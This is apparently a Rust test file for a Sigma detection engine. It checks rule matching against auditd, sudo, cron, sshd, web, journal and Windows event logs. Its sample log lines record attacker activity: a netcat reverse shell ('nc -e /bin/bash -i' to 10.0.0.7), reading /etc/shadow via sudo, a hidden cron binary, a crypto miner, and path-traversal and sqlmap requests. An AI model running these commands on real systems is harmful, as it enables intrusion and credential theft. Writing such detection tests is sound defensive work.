//! Lines as programs write them, and rules as they are written for them.

use crate::{
    RuleFile, RuleSet,
    sigma::tests::{row, rule},
};

const HOST: &str = r#"{"host.name":"web1"}"#;

/// Does a rule of this logsource and selection match the line?
fn matches(logsource: &str, selection: &str, line: &str, attributes: &str, resource: &str) -> bool {
    let text = rule("r", logsource, selection);
    let (set, errors) = RuleSet::load(vec![RuleFile { path: "r.yml".to_owned(), text }]);
    assert!(errors.is_empty(), "{errors:?}");
    let mut places = Vec::new();
    set.matching(&row(line, attributes, resource), &mut places);
    !places.is_empty()
}

#[track_caller]
fn check(line: &str, cases: &[(&str, &str, bool)]) {
    for (logsource, selection, expected) in cases {
        assert_eq!(
            matches(logsource, selection, line, "{}", HOST),
            *expected,
            "{logsource} {selection}\n{line}"
        );
    }
}

const PROCESS: &str = "product: linux, category: process_creation";
const FILE: &str = "product: linux, category: file_event";
const NETWORK: &str = "product: linux, category: network_connection";
const AUDIT: &str = "product: linux, service: auditd";

const SYSCALL: &str = "type=SYSCALL msg=audit(1626611363.720:348501): arch=c000003e syscall=59 success=yes exit=0 \
    a0=55d3a8a0 a1=55d3a8b0 a2=55d3a8c0 a3=8 items=2 ppid=3310 pid=3311 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 \
    comm=\"nc\" exe=\"/usr/bin/nc.traditional\" subj=unconfined key=\"rootcmd\"";
const EXECVE: &str = "type=EXECVE msg=audit(1626611363.720:348501): argc=4 a0=\"nc\" a1=\"-e\" a2=2F62696E2F62617368202D69 a3=\"10.0.0.7\"";
const CWD: &str = "type=CWD msg=audit(1626611363.720:348501): cwd=\"/tmp/x\"";
const PATH: &str = "type=PATH msg=audit(1626611363.720:348501): item=0 name=\"/usr/bin/nc\" inode=1 mode=0100755 nametype=NORMAL";
const PROCTITLE: &str =
    "type=PROCTITLE msg=audit(1626611363.720:348501): proctitle=6E63002D65002F62696E2F62617368202D69";

#[test]
fn each_line_of_an_audit_event_says_what_it_says() {
    check(
        SYSCALL,
        &[
            (PROCESS, "Image|endswith: /nc.traditional", true),
            (PROCESS, "User: root", true),
            (PROCESS, "ProcessId: 3311", true),
            (PROCESS, "ParentProcessId: 3310", true),
            (FILE, "Image|endswith: /nc.traditional", false),
            (AUDIT, "SYSCALL: execve", true),
            (AUDIT, "type: SYSCALL", true),
            (AUDIT, "key: rootcmd", true),
            (AUDIT, "auid: 1000", true),
            ("product: linux, service: sshd", "key: rootcmd", false),
            ("category: webserver", "- nc", false),
        ],
    );
    check(
        EXECVE,
        &[
            (PROCESS, "CommandLine: 'nc -e /bin/bash -i 10.0.0.7'", true),
            (PROCESS, "CommandLine|contains|all: [' -e ', '/bin/bash']", true),
            (AUDIT, "a2: '/bin/bash -i'", true),
            (AUDIT, "a2|startswith: 2F62", false),
            (AUDIT, "- '/bin/bash -i'", true),
        ],
    );
    check(CWD, &[(PROCESS, "CurrentDirectory: /tmp/x", false), (AUDIT, "cwd: /tmp/x", true)]);
    check(PATH, &[(FILE, "TargetFilename: /usr/bin/nc", false), (AUDIT, "name: /usr/bin/nc", true)]);
    check(
        PROCTITLE,
        &[(AUDIT, "proctitle: 'nc -e /bin/bash -i'", true), (PROCESS, "CommandLine|contains: nc", false)],
    );
}

#[test]
fn the_lines_of_one_event_are_one_process() {
    let other = CWD.replace("348501", "348502").replace("/tmp/x", "/elsewhere");
    let event = [SYSCALL, EXECVE, CWD, &other, PATH, PROCTITLE].join("\n");
    check(
        &event,
        &[
            (PROCESS, "{ Image|endswith: /nc.traditional, CommandLine|contains: ' -e ' }", true),
            (PROCESS, "{ Image|endswith: /nc.traditional, CurrentDirectory: /tmp/x }", true),
            (PROCESS, "CurrentDirectory: /elsewhere", false),
            (AUDIT, "{ type: EXECVE, SYSCALL: execve, a1: '-e', name: /usr/bin/nc }", true),
            (FILE, "TargetFilename|endswith: nc", false),
        ],
    );
}

#[test]
fn other_kinds_of_audit_events_are_told_apart() {
    let open = "type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=257 success=yes a0=ffffff9c a1=7ffc a2=241 a3=1b6 pid=1 uid=1000 exe=\"/usr/bin/tee\" key=(null)";
    let made = "type=PATH msg=audit(1.2:3): item=1 name=2F6574632F637265206F6E nametype=CREATE";
    check(
        &format!("{open}\n{made}"),
        &[(FILE, "TargetFilename: '/etc/cre on'", true), (FILE, "Image|endswith: /tee", true)],
    );
    check(
        made,
        &[(FILE, "TargetFilename: '/etc/cre on'", true), (PROCESS, "TargetFilename|contains: etc", false)],
    );
    let used = "type=PATH msg=audit(1.2:3): item=0 name=\"/etc/sudoers\" nametype=NORMAL";
    check(&format!("{open}\n{used}"), &[(FILE, "TargetFilename: /etc/sudoers", true)]);
    let reads = open.replace("a2=241", "a2=80000");
    check(&format!("{reads}\n{used}"), &[(FILE, "TargetFilename: /etc/sudoers", false)]);
    let refused = open.replace("success=yes", "success=no");
    check(&format!("{refused}\n{used}"), &[(FILE, "TargetFilename: /etc/sudoers", false)]);
    let connect = "type=SYSCALL msg=audit(1.2:4): arch=c00000b7 syscall=203 success=yes exe=\"/usr/bin/curl\"\n\
        type=SOCKADDR msg=audit(1.2:4): saddr=020001BBCB0071090000000000000000";
    check(
        connect,
        &[
            (NETWORK, "{ DestinationIp: 203.0.113.9, DestinationPort: 443, Initiated: 'true' }", true),
            (AUDIT, "SYSCALL: connect", true),
        ],
    );
    let command = "type=USER_CMD msg=audit(1.2:5): pid=9 uid=1000 auid=1000 ses=2 msg='cwd=\"/home/ann\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'";
    check(
        command,
        &[
            (
                PROCESS,
                "{ CommandLine: 'cat /etc/shadow', ParentImage: /usr/bin/sudo, CurrentDirectory: /home/ann }",
                true,
            ),
            (PROCESS, "Image|endswith: /sudo", false),
        ],
    );
    let enriched = "node=web1 type=SYSCALL msg=audit(1.2:6): arch=c000003e syscall=101 success=yes uid=1000 exe=\"/usr/bin/gdb\"\u{1d}ARCH=x86_64 SYSCALL=ptrace UID=\"ann\"";
    check(enriched, &[(AUDIT, "{ SYSCALL: ptrace, UID: ann, User: ann }", true)]);
    assert!(matches(
        AUDIT,
        "{ type: SYSCALL, comm: nc }",
        "SYSCALL arch=c000003e syscall=59 comm=\"nc\"",
        "{}",
        r#"{"host.name":"h","service.name":"audit"}"#
    ));
}

#[test]
fn an_audit_line_that_is_broken_says_what_can_be_read() {
    for line in [
        "type=EXECVE msg=audit(1:2): a0=\"nc",
        "type=EXECVE msg=audit(1:2): a0=\"nc\" a1=",
        "type=EXECVE msg=audit(1:2): = == a0=\"nc\" msg='",
        "type=EXECVE msg=audit(1:2): a99999999999999999999=1 a0=\"nc\" a[0]=x a1=ABC",
        "type=USER_CMD msg=audit(1:2): msg=''''''''''' a0=\"nc\"",
    ] {
        check(line, &[(AUDIT, "a0: nc", true)]);
    }
    check("type= msg=audit(", &[(AUDIT, "type: x", false)]);
    check("type=SOCKADDR msg=audit(1:2): saddr=0200é", &[(AUDIT, "type: SOCKADDR", true)]);
}

#[test]
fn what_sudo_and_cron_run_is_a_process() {
    let sudo = "Nov 23 10:00:00 web1 sudo[77]:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow ; id";
    check(
        sudo,
        &[
            (
                PROCESS,
                "{ Image: /usr/bin/cat, CommandLine: '/usr/bin/cat /etc/shadow ; id', User: root }",
                true,
            ),
            (PROCESS, "{ CurrentDirectory: /home/ann, ParentUser: ann }", true),
            ("product: linux, service: sudo", "{ USER: root, TTY: pts/0, PWD|startswith: /home }", true),
            ("product: linux, service: auth", "- /etc/shadow", true),
        ],
    );
    let refused = "Nov 23 10:00:00 web1 sudo: bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/bash";
    check(
        refused,
        &[
            (PROCESS, "Image: /bin/bash", false),
            ("product: linux, service: sudo", "COMMAND: /bin/bash", true),
        ],
    );
    check(
        "<86>1 2026-11-23T10:00:00Z web1 sudo 77 - - ann : TTY=pts/0 ; PWD=/ ; USER=www ; COMMAND=/bin/ls",
        &[(PROCESS, "{ Image: /bin/ls, User: www }", true)],
    );
    let journal = r#"{"host.name":"h","service.name":"sudo"}"#;
    assert!(matches(
        PROCESS,
        "Image: /bin/ls",
        "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
        "{}",
        journal
    ));
    let cron = "Nov 23 10:00:00 web1 CRON[99]: (root) CMD (/tmp/.x/run > /dev/null 2>&1)";
    check(
        cron,
        &[
            (PROCESS, "{ Image: /tmp/.x/run, CommandLine|startswith: '/tmp/.x/run > ', User: root }", true),
            ("product: linux, service: cron", "- /tmp/", true),
        ],
    );
    check(
        "Nov 23 10:00:00 web1 crontab[9]: (eve) REPLACE (root)",
        &[("product: linux, service: cron", "User: eve", true), (PROCESS, "User: eve", false)],
    );
}

#[test]
fn sshd_names_user_and_address_whatever_the_user_is_called() {
    let sshd = "product: linux, service: sshd";
    for (message, user, address) in [
        ("Failed password for root from 203.0.113.9 port 22 ssh2", "root", "203.0.113.9"),
        (
            "Failed password for invalid user a from 6.6.6.6 from 203.0.113.9 port 22 ssh2",
            "a from 6.6.6.6",
            "203.0.113.9",
        ),
        ("Accepted publickey for ann from 2001:db8::1 port 9 ssh2: RSA SHA256:x", "ann", "2001:db8::1"),
        ("Invalid user oracle from 203.0.113.9 port 4", "oracle", "203.0.113.9"),
        (
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 ruser= rhost=203.0.113.9  user=bob",
            "bob",
            "203.0.113.9",
        ),
    ] {
        let line = format!("Nov 23 10:00:00 web1 sshd[1]: {message}");
        check(
            &line,
            &[(sshd, &format!("{{ User: '{user}', SourceIp: '{address}', src_ip: '{address}' }}"), true)],
        );
    }
    check(
        "Nov 23 10:00:00 web1 sshd[1]: Server listening on 0.0.0.0 port 22.",
        &[(sshd, "SourceIp|exists: true", false)],
    );
}

#[test]
fn requests_are_found_in_lines_and_in_what_parsers_made_of_them() {
    let web = "category: webserver";
    let combined = r#"203.0.113.9 - ann [10/Oct/2026:13:55:36 +0000] "GET /a/b.php?q=../../etc/passwd HTTP/1.1" 404 12 "http://x/\"y" "sqlmap/1.7""#;
    check(
        combined,
        &[
            (web, "{ cs-method: GET, cs-uri-stem: /a/b.php, sc-status: 404, c-ip: 203.0.113.9 }", true),
            (web, "cs-uri-query: 'q=../../etc/passwd'", true),
            (web, "cs-uri-query|contains: '/b.php?q='", true),
            (web, "cs-user-agent|contains: sqlmap", true),
            (web, r#"cs-referer: 'http://x/\"y'"#, true),
            ("category: proxy", "c-uri|contains: passwd", false),
        ],
    );
    let parsed = r#"{"http.request.method":"POST","url.path":"/tm/util/bash","url.query":"x=1","http.response.status_code":200,"user_agent.original":"curl"}"#;
    for selection in [
        "{ cs-method: POST, cs-uri-stem: /tm/util/bash, cs-uri-query: 'x=1', sc-status: 200, cs-user-agent: curl }",
        r"cs-uri-query|endswith: '/bash\?x=1'",
        "c-uri|contains: bash",
    ] {
        assert!(matches(web, selection, "x", parsed, HOST), "{selection}");
    }
    let own = r#"{"cs-method":"GET","cs-uri-query":"own"}"#;
    assert!(matches(web, "cs-uri-query: own", "x", own, HOST), "a server that logs by Sigma's names");
    let error = r#"2026/10/10 13:55:36 [error] 9#9: *1 open() failed, client: 203.0.113.9, server: _, request: "GET /.git/config HTTP/1.1", host: "h""#;
    let nginx = r#"{"host.name":"h","service.name":"nginx"}"#;
    assert!(matches(web, "{ cs-uri-stem: /.git/config, c-ip: 203.0.113.9 }", error, "{}", nginx));
    check(
        r#"h - - [10/Oct/2026:13:55:36 +0000] "\x16\x03\x01" 400 0 HTTP/1.1"#,
        &[(web, "cs-method|exists: true", false)],
    );
}

#[test]
fn the_journal_says_what_ran() {
    let attributes = r#"{"_EXE":"/tmp/.x/miner","_CMDLINE":"miner --pool stratum+tcp://p","_PID":"12"}"#;
    let journal = r#"{"host.name":"h","service.name":"miner"}"#;
    for selection in ["Image|startswith: /tmp/", "CommandLine|contains: stratum", "ProcessId: 12"] {
        assert!(matches(PROCESS, selection, "x", attributes, journal), "{selection}");
    }
}

#[test]
fn events_of_windows_have_their_channels_service_and_category() {
    let event = |channel: &str, id: &str, data: &str| {
        format!(r#"{{"Event":{{"System":{{"EventID":{id},"Channel":"{channel}"}},"EventData":{data}}}}}"#)
    };
    let sysmon = "Microsoft-Windows-Sysmon/Operational";
    let exec = event(sysmon, "1", r#"{"CommandLine":"whoami"}"#);
    let spelled =
        event(sysmon, r##"{"#text":1,"#attributes":{"Qualifiers":0}}"##, r#"{"CommandLine":"whoami"}"#);
    let registry = event(sysmon, "13", r#"{"TargetObject":"HKLM"}"#);
    let login = event("Security", "4624", r#"{"LogonType":3}"#);
    for (attributes, logsource, selection, expected) in [
        (&exec, "product: windows, category: process_creation", "CommandLine: whoami", true),
        (&exec, "product: windows, category: ps_script", "CommandLine: whoami", false),
        (&exec, "product: windows, service: security", "CommandLine: whoami", false),
        (&exec, "product: windows, service: sysmon", "EventID: 1", true),
        (
            &spelled,
            "product: windows, category: process_creation",
            "{ EventID: 1, CommandLine: whoami }",
            true,
        ),
        (&registry, "product: windows, category: registry_set", "TargetObject: HKLM", true),
        (&registry, "product: windows, category: registry_event", "TargetObject: HKLM", true),
        (&registry, "product: windows, category: registry_delete", "TargetObject: HKLM", false),
        (&exec, "product: windows, category: registry_event", "CommandLine: whoami", false),
        (&login, "product: windows, service: security", "{ EventID: 4624, LogonType: 3 }", true),
        (&login, "product: windows, category: process_creation", "LogonType: 3", false),
    ] {
        assert_eq!(matches(logsource, selection, "x", attributes, HOST), expected, "{logsource} {selection}");
    }
}
